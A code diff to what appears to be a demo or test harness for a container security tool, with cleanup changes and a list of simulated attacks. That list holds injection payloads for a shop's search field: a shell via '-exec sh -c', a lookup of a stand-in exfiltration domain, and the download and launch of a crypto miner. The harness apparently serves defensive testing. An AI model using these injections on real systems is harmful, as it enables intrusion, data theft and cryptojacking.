@@ -40,7 +40,7 @@ SHOP_IMAGE, DEFENDER_IMAGE = "battlement/shop:1", "bartizan/defender:0.1.0"
 MINER = b"#!/bin/sh\necho mining for somebody else\n"
 ATTACK = [
     ("a shell, through the hole in the parcel search", "BTZ-1 -exec sh -c id ;"),
-    ("a look-up of a domain that data is smuggled out by", "BTZ-1 -exec nslookup exfil.evil.test ;"),
+    ("a look-up of a domain that data is smuggled out by", "BTZ-1 -exec getent ahosts exfil.evil.test ;"),
     ("a download from a miners' pool", "BTZ-1 -exec wget -q -O /tmp/xmrig http://pool.miner.test:3334/xmrig ;"),
     ("the download made executable", "BTZ-1 -exec chmod 755 /tmp/xmrig ;"),
     ("the miner started", "BTZ-1 -exec /tmp/xmrig ;"),
@@ -111,15 +111,18 @@ def started_console(folder: Path) -> Iterator[Console]:
     command = [*BARTIZAN, "console", "--data-dir", str(data), "--san", HOST]
     command += ["--api-address", f":{ports[0]}", "--channel-address", f":{ports[1]}"]
     process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True, start_new_session=True)
+    closing = contextlib.ExitStack()
     try:
         if process.stdout is None or not process.stdout.readline():
             raise SystemExit("the Console did not start")
         console = Console(data)
+        closing.callback(console.http.close)
         token = (data / "setup-token").read_text().strip()
         console.run("signup", "--token", token)
         say(f"The Console listens at {console.url}; user admin, password {console.password}")
         yield console
     finally:
+        closing.close()
         process.terminate()
         process.wait()
 
@@ -221,6 +224,7 @@ def embedded_shop(folder: Path, console: Console) -> Iterator[Shop]:
     finally:
         process.terminate()
         process.wait()
+        Path("/tmp/xmrig").unlink(missing_ok=True)  # noqa: S108 - what the attack left
 
 
 def wait_until_serving(address: str, port: int) -> None:
